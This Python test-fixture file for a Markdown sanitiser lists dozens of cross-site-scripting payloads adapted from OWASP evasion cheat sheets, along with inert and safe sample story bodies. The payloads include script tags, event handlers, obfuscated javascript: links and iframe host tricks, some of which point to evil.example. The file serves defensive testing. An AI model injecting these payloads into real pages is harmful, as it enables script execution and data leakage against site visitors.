"""Story bodies that try to run script or reach another host, as data: the cases of issue 21 and more from the OWASP
XSS Filter Evasion Cheat Sheet and the HTML5 Security Cheatsheet, written as a reporter could paste them.

``FLAGGED`` bodies carry something cleaning removes, so ``check`` must report it. ``INERT`` bodies look hostile but
Python-Markdown already renders them harmless (as text or code), so cleaning changes nothing and nothing is reported.
The iframe host the fixture site allows is ``IFRAME_HOST``."""

from __future__ import annotations

IFRAME_HOST = "www.youtube.com"

FLAGGED: dict[str, str] = {
    # The examples in the issue.
    "attr_list onclick": '[x](https://example.vn){ onclick="alert(1)" }',
    "html in list item": "- mục một\n\n    <img src=x onerror=alert(1)>\n\n- mục hai",
    "entity javascript link": "[x](&#106;avascript:alert(1))",
    "base": '<base href="https://evil.example/">',
    "meta refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "form action": '<form action="https://evil.example/"><input name="q"><button>Gửi</button></form>',
    "style element": "<style>body { display: none }</style>",
    "link stylesheet": '<link rel="stylesheet" href="https://evil.example/x.css">',
    # Scripts and event handlers.
    "script": "Đoạn một.\n\n<script>alert(1)</script>",
    "script src": '<script src="https://evil.example/x.js"></script>',
    "script mixed case": "<ScRiPt>alert(1)</sCrIpT>",
    "img onerror": "<img src=x onerror=alert(1)>",
    "img upper case": "<IMG SRC=x ONERROR=alert(1)>",
    "body onload": "<body onload=alert(1)>",
    "svg onload": "<svg onload=alert(1)>",
    "svg script": "<svg><script>alert(1)</script></svg>",
    "svg animate xlink": '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>',
    "math maction": '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">X</maction></math>',
    "div onmouseover": '<div onmouseover="alert(1)">Rê chuột</div>',
    "details ontoggle": "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "md_in_html handler": '<div markdown="1" onclick="alert(1)">\n**đậm**\n</div>',
    "attr_list on heading": "## Tiêu đề { onmouseover=alert(1) }",
    "attr_list style": 'Đoạn văn có kiểu.\n{ style="position:fixed;top:0;left:0;width:100%;height:100%" }',
    "attr_list data": "Đoạn văn.\n{ data-x=1 }",
    "input autofocus": "<input autofocus onfocus=alert(1)>",
    "marquee onstart": "<marquee onstart=alert(1)>x</marquee>",
    "video source onerror": "<video><source onerror=alert(1)></video>",
    "audio src": '<audio src="https://evil.example/a.mp3" autoplay></audio>',
    "object data": '<object data="javascript:alert(1)"></object>',
    "embed": '<embed src="https://evil.example/x.swf">',
    "applet": '<applet code="x"></applet>',
    "isindex": "<isindex type=image src=1 onerror=alert(1)>",
    "template": "<template><img src=x onerror=alert(1)></template>",
    "noscript trick": '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "target blank": '<a href="https://example.vn" target="_blank">x</a>',
    # URLs.
    "javascript link": "[bấm](javascript:alert(1))",
    "javascript mixed case": "[x](JaVaScRiPt:alert(1))",
    "javascript hex entities": '<a href="&#x6A;&#x61;&#x76;&#x61;script:alert(1)">x</a>',
    "javascript decimal no semicolon": '<a href="&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58alert(1)">x</a>',
    "javascript padded decimal": '<a href="&#0000106&#0000097vascript:alert(1)">x</a>',
    "javascript tab": '<a href="jav\tascript:alert(1)">x</a>',  # Markdown makes the tab spaces: removed all the same
    "javascript newline": '<a href="jav\nascript:alert(1)">x</a>',
    "javascript null byte": '<a href="java\x00script:alert(1)">x</a>',
    "javascript entity tab": '<a href="jav&#x09;ascript:alert(1)">x</a>',
    "javascript entity newline": '<a href="jav&#x0A;ascript:alert(1)">x</a>',
    "javascript leading space": '<a href=" &#14;  javascript:alert(1)">x</a>',
    "vbscript": '<a href="vbscript:msgbox(1)">x</a>',
    "data html link": '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    "reference javascript": "[x][r]\n\n[r]: javascript:alert(1)",
    "image javascript": "![x](javascript:alert(1))",
    "image other host": "![ảnh](https://evil.example/pixel.gif)",
    "image protocol relative": "![ảnh](//evil.example/pixel.gif)",
    "image backslashes": '<img src="\\\\evil.example\\pixel.gif" alt="x">',
    "image data uri": '<img src="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=" alt="x">',
    "srcset": '<img src="a.jpg" srcset="https://evil.example/x.jpg 2x" alt="x">',
    "button formaction": '<button formaction="javascript:alert(1)">x</button>',
    "input formaction": '<form><input type="submit" formaction="https://evil.example/"></form>',
    # Iframes.
    "iframe javascript": '<iframe src="javascript:alert(1)"></iframe>',
    "iframe srcdoc": '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
    "iframe other host": '<iframe src="https://evil.example/x"></iframe>',
    "iframe userinfo": '<iframe src="https://www.youtube.com@evil.example/"></iframe>',
    "iframe subdomain trick": '<iframe src="https://www.youtube.com.evil.example/"></iframe>',
    "iframe http": '<iframe src="http://www.youtube.com/embed/x"></iframe>',
    "iframe protocol relative": '<iframe src="//www.youtube.com/embed/x"></iframe>',
    "iframe backslash": '<iframe src="https://evil.example\\@www.youtube.com/"></iframe>',
    "iframe data": '<iframe src="data:text/html,<script>alert(1)</script>"></iframe>',
    "frameset": '<frameset><frame src="https://evil.example/"></frameset>',
    # CSS.
    "style expression": '<div style="width: expression(alert(1))">x</div>',
    "style url javascript": '<div style="background:url(javascript:alert(1))">x</div>',
    "style url other host": '<p style="background-image:url(https://evil.example/x.gif)">x</p>',
    "table cell style": '<table><tr><td style="text-align: left; background:url(https://evil.example/x)">x</td></tr></table>',
    "autolink javascript": "<javascript:alert(1)>",  # no autolink: Python-Markdown passes it on as raw HTML
    # Reserved ids.
    "reserved id": '<div id="__drawer">x</div>',
    "reserved id attr_list": "Đoạn văn.\n{ #__search }",
    "reserved id from heading": "## \\_\\_toc",
}

INERT: dict[str, str] = {
    "code span": "Viết `<script>alert(1)</script>` là sai.",
    "fenced code": "```html\n<script>alert(1)</script>\n```",
    "indented code": "Ví dụ:\n\n    <img src=x onerror=alert(1)>",
    "escaped": "&lt;script&gt;alert(1)&lt;/script&gt;",
    "img slash separated": "<img/src=x/onerror=alert(1)>",  # one attribute: src="x/onerror=alert(1)"
    "html in deep list item": "- mục\n\n        <script>alert(1)</script>",
}
"""Rendered as text or code by Python-Markdown."""

SAFE: dict[str, str] = {
    "prose": "Lực lượng Công an nhân dân có mặt tại bệnh viện dã chiến từ sáng sớm.",
    "links": "Xem [báo cáo](https://example.vn/bao-cao), [thư](mailto:toa-soan@example.vn) và [gọi](tel:+84123).",
    "relative link and image": "[Bài trước](../truoc/) và ![Ảnh](images/anh.jpg){ width=600 }",
    "table": "| Tỉnh | Ca |\n|:--|--:|\n| Bắc Giang | 100 |\n| Đà Nẵng | 5 |",
    "footnote": "Số liệu[^1].\n\n[^1]: Theo Bộ Y tế.",
    "admonition": '!!! note "Lưu ý"\n    Người dân cần khai báo y tế.',
    "details": '??? info "Chi tiết"\n    Nội dung ẩn.',
    "code": "```python\nprint('xin chào')\n```",
    "attr_list class": "Đoạn văn.\n{ .lead #mo-dau }",
    "md_in_html": '<div class="hop" markdown>\n**Đậm** và *nghiêng*.\n</div>',
    "allowed iframe": f'<iframe src="https://{IFRAME_HOST}/embed/x" title="Video" allowfullscreen></iframe>',
    "inline html": "Chữ <em>nghiêng</em>, <strong>đậm</strong>, <sub>2</sub> và "
    "<abbr title='Công an nhân dân'>CAND</abbr>.",
    "headings": "## Diễn biến\n\n### Ngày 1\n\nNội dung.",
    "blockquote": "> Chúng tôi sẽ ở lại đến khi hết dịch.",
}
